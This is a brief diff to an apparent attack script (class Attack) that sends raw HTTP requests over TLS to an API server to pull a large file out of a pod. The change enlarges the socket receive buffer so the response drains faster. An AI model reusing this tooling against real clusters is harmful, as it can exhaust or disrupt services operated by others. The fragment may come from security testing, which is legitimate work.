@@ -243,6 +243,9 @@ class Attack:
             tls.sendall(f"GET {_copy(NS_A, pod, '/tmp/huge')} HTTP/1.1\r\n"
                         f"Host: {self.api.host}\r\nConnection: close\r\n\r\n".encode())
             self.stop.wait(RATE_WINDOW + 20)
+            # Drained through a wide window: through the 4 KiB one, what the path had
+            # buffered trickled in at ~35 KB/s (zero-window probes), for two minutes.
+            tls.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
             while True:
                 try:
                     data = tls.recv(1 << 20)
